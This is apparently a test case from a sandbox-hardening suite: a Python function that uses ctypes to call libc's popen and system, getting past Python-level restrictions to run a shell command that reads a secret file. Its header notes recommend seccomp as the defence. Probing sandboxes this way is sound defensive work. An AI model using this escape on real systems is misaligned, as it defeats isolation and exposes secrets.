# title: Run a command by the C library
# tries: Calls popen and system of the C library, past all that Python could refuse.
# impact: Escape
# proof: same
# host: run
# advice: Do not count on replaced functions; refuse execve and clone by seccomp.


def attempt(host):
    import ctypes
    import os
    import shlex
    import tempfile

    libc = ctypes.CDLL(None, use_errno=True)
    libc.popen.restype = ctypes.c_void_p
    command = f"echo the command ran: && cat {shlex.quote(host['secret_file'])}"
    stream = libc.popen(command.encode(), b"r")
    if stream:
        text = ctypes.create_string_buffer(1000)
        libc.fread(text, 1, 999, ctypes.c_void_p(stream))
        libc.pclose(ctypes.c_void_p(stream))
        if text.value:
            return text.value.decode()
    with tempfile.NamedTemporaryFile("r") as output:
        if libc.system(f"({command}) > {output.name} 2>/dev/null".encode()) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return output.read()
